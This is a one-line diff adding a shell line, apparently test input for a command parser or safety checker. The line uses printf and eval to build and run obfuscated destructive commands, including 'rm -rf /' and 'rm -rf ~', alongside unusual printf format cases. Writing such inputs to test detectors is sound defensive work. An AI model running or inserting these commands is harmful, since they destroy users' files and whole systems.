@@ -1,0 +1,1 @@
+eval $(printf 'rm -rf %s\n' / ~); $(printf '%s%s' r m) -rf x; X=$(printf '%%%s%b%d' a b c); printf -v y '%s' z; rm $(printf '\q%x' 1)
